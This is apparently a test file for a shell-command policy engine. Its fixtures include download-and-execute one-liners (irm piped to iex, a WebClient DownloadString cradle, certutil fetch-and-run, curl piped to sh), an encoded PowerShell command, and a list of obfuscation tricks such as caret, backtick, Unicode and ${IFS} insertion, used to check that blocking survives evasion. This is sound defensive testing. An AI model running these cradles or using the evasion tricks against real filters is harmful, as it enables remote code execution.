import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluatePolicy, MAX_INPUT_CHARS } from './engine';
import { sha256Hex } from './hash';
import type { PolicyContext, PolicyInput, Shell } from './types';

const base: PolicyContext = {
  tenantState: 'active',
  trust: { level: 'standard' },
  now: 1_000,
  blockedDestinations: [],
  permittedScriptHashes: [],
  history: [],
};
const evaluate = (
  text: string,
  shell: Shell | 'auto' = 'powershell',
  context: Partial<PolicyContext> = {},
  action?: PolicyInput['action'],
) =>
  evaluatePolicy({
    text,
    shell,
    platform: shell === 'bash' || shell === 'sh' || shell === 'zsh' ? 'linux' : 'windows',
    context: { ...base, ...context },
    ...(action ? { action } : {}),
  });

const CRADLE = 'irm https://x.example.net/a.ps1 | iex';

describe('evaluatePolicy', () => {
  it('allows ordinary administration', () => {
    for (const [text, shell] of [
      ['Get-Service', 'powershell'],
      ['ipconfig /all', 'cmd'],
      ['systemctl status nginx', 'bash'],
      ['winget upgrade --all', 'powershell'],
    ] as const) {
      const r = evaluate(text, shell);
      expect(r.decision, text).toBe('allow');
      expect(r.reasons).toEqual([]);
    }
  });

  it('returns the sha256 of the text and the resolved shell', () => {
    const r = evaluate('Get-Service', 'auto');
    expect(r.sha256).toBe(sha256Hex('Get-Service'));
    expect(r.shell).toBe('powershell');
    expect(evaluate('ls -la | grep foo && sudo systemctl restart x', 'auto').shell).not.toBe('cmd');
  });

  it('explains a block with code, message, spans, remedy', () => {
    const r = evaluate(CRADLE);
    expect(r.decision).toBe('block');
    const reason = r.reasons.find((x) => x.code === 'download_execute');
    expect(reason?.severity).toBe('block');
    expect(reason?.message.length).toBeGreaterThan(20);
    expect(reason?.remedy).toMatch(/extended trust/);
    expect(reason?.spans.length).toBeGreaterThan(0);
    for (const s of reason?.spans ?? []) expect(CRADLE.slice(s.start, s.end).length).toBeGreaterThan(0);
  });

  it('applies extended trust only while it is in force', () => {
    expect(evaluate(CRADLE, 'powershell', { trust: { level: 'extended', expiresAt: 2_000 } })).toMatchObject({
      decision: 'flag',
      trustInForce: 'extended',
    });
    expect(evaluate(CRADLE, 'powershell', { trust: { level: 'extended', expiresAt: 1_000 } })).toMatchObject({
      decision: 'block',
      trustInForce: 'standard',
    });
  });

  it('reports tenant state for every action kind', () => {
    for (const action of ['terminal_line', 'command', 'script', 'schedule'] as const) {
      const restricted = evaluate('Get-Service', 'powershell', { tenantState: 'restricted' }, action);
      expect(restricted.decision).toBe('block');
      expect(restricted.reasons.map((r) => r.code)).toContain('tenant_restricted');
      expect(evaluate('Get-Service', 'powershell', { tenantState: 'blocked' }, action).reasons.map((r) => r.code)).toContain(
        'tenant_blocked',
      );
    }
  });

  it('permits a script by hash, except for blocked destinations', () => {
    const hash = sha256Hex(CRADLE);
    const permitted = evaluate(CRADLE, 'powershell', { permittedScriptHashes: [hash] });
    expect(permitted).toMatchObject({ decision: 'allow', permittedByHash: true });
    const blocked = evaluate(CRADLE, 'powershell', {
      permittedScriptHashes: [hash.toUpperCase()],
      blockedDestinations: [{ id: 'r1', kind: 'domain', value: 'example.net' }],
    });
    expect(blocked.decision).toBe('block');
    expect(blocked.reasons.map((r) => r.code)).toEqual(['blocked_destination']);
  });

  it('applies blocked destinations and the allowlist whatever the trust', () => {
    const ctx = {
      trust: { level: 'extended' as const, expiresAt: 10_000 },
      blockedDestinations: [{ id: 'r', kind: 'domain' as const, value: 'evil.example' }],
    };
    const r = evaluate('Invoke-WebRequest https://cdn.evil.example/x -OutFile x', 'powershell', ctx);
    expect(r.decision).toBe('block');
    expect(r.destinations.length).toBeGreaterThan(0);
    const allow = evaluate('curl https://other.example.org/x -o x', 'bash', {
      destinationAllowlist: [{ id: 'a', kind: 'domain', value: 'ok.example.org' }],
    });
    expect(allow.reasons.map((x) => x.code)).toContain('destination_not_allowed');
  });

  it('refuses oversized input', () => {
    const r = evaluate('a'.repeat(MAX_INPUT_CHARS + 1));
    expect(r.decision).toBe('block');
    expect(r.reasons.map((x) => x.code)).toEqual(['input_too_large']);
  });

  it('orders and de-duplicates reasons deterministically', () => {
    const text = `${CRADLE}\n${CRADLE}\npowershell -enc ZABpAHIA`;
    const a = evaluate(text);
    const b = evaluate(text);
    expect(a).toEqual(b);
    const keys = a.reasons.map((r) => `${r.code}|${r.ruleId}`);
    expect(new Set(keys).size).toBe(keys.length);
    expect(a.reasons[0]?.severity).toBe('block');
  });

  it('survives malformed input objects', () => {
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    const r = evaluatePolicy({ text: 42, shell: 'fish', platform: 'beos', context: null } as any);
    expect(['allow', 'flag', 'block']).toContain(r.decision);
  });
});

// ---------------------------------------------------------------- property tests

const SHELLS: Shell[] = ['powershell', 'cmd', 'bash', 'sh', 'zsh'];
const fragments = [
  'iex',
  'IEX',
  '(',
  ')',
  '{',
  '}',
  '$(',
  '`',
  "'",
  '"',
  '^',
  '|',
  '&',
  ';',
  '\n',
  ' ',
  'irm ',
  'http://x.example.net/a ',
  'curl ',
  '| sh',
  'bash -c ',
  'cmd /c ',
  'powershell -enc ',
  'ZABpAHIA',
  '%COMSPEC:~0,1%',
  '${IFS}',
  '[char]105',
  "'a'+'b'",
  '-f ',
  '-join ',
  '\u200b',
  '\u202e',
  'ｉ',
  '$x=',
  '<<EOF\n',
  '#',
  '\\',
  '@"\n',
  '"@',
];
const scriptText = fc
  .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 4 })), {
    maxLength: 40,
  })
  .map((xs) => xs.join(''));

function evaluateWith(text: string, shell: Shell) {
  return evaluatePolicy({ text, shell, platform: 'windows', context: base });
}

describe('engine properties', () => {
  it('never throws and keeps every span within the text', () => {
    fc.assert(
      fc.property(scriptText, fc.constantFrom(...SHELLS), (text, shell) => {
        const r = evaluateWith(text, shell);
        expect(['allow', 'flag', 'block']).toContain(r.decision);
        for (const reason of r.reasons) {
          for (const s of reason.spans) {
            expect(s.start).toBeGreaterThanOrEqual(0);
            expect(s.end).toBeLessThanOrEqual(text.length);
            expect(s.start).toBeLessThanOrEqual(s.end);
          }
        }
        for (const d of r.destinations) expect(d.span.end).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 400 },
    );
  });

  const dangerous: Array<[string, Shell]> = [
    ['irm http://x.example.net/a | iex', 'powershell'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example.net/a')", 'powershell'],
    ['powershell -c "iex (irm http://x.example.net/a)"', 'cmd'],
    ['certutil -urlcache -f http://x.example.net/a.exe a.exe & a.exe', 'cmd'],
    ['curl -s http://x.example.net/a | sh', 'bash'],
    ['Get-Service', 'powershell'],
    ['ipconfig /all', 'cmd'],
  ];

  it('decides the same under case changes (PowerShell and cmd are case-insensitive)', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...dangerous.filter(([, s]) => s !== 'bash')),
        fc.array(fc.boolean(), { minLength: 80, maxLength: 80 }),
        ([text, shell], flips) => {
          const changed = Array.from(text)
            .map((c, i) => (flips[i % flips.length] ? c.toUpperCase() : c.toLowerCase()))
            .join('');
          expect(evaluateWith(changed, shell).decision).toBe(evaluateWith(text, shell).decision);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('decides the same with carets inserted in cmd words', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...dangerous.filter(([, s]) => s === 'cmd')),
        fc.array(fc.nat(200), { maxLength: 6 }),
        ([text, shell], positions) => {
          // A caret before a letter outside quotes is removed by cmd.
          let out = text;
          for (const p of positions) {
            const i = p % out.length;
            if (/[a-z]/i.test(out[i] ?? '') && out[i - 1] !== '^' && !inQuotes(out, i)) out = out.slice(0, i) + '^' + out.slice(i);
          }
          expect(evaluateWith(out, shell).decision).toBe(evaluateWith(text, shell).decision);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('decides the same with backticks inserted in PowerShell words', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...dangerous.filter(([, s]) => s === 'powershell')),
        fc.array(fc.nat(200), { maxLength: 6 }),
        ([text, shell], positions) => {
          // A backtick before a letter that is not an escape letter is ignored by PowerShell.
          let out = text;
          for (const p of positions) {
            const i = p % out.length;
            const c = out[i] ?? '';
            if (/[a-z]/i.test(c) && !/[0abefnrtuvx]/i.test(c) && /[a-z]/i.test(out[i - 1] ?? '') && !inSingleQuotes(out, i))
              out = out.slice(0, i) + '`' + out.slice(i);
          }
          expect(evaluateWith(out, shell).decision).toBe(evaluateWith(text, shell).decision);
        },
      ),
      { numRuns: 200 },
    );
  });
});

function inQuotes(text: string, i: number): boolean {
  let q = false;
  for (let k = 0; k < i; k++) if (text[k] === '"') q = !q;
  return q;
}
function inSingleQuotes(text: string, i: number): boolean {
  let q = false;
  for (let k = 0; k < i; k++) if (text[k] === "'") q = !q;
  return q;
}
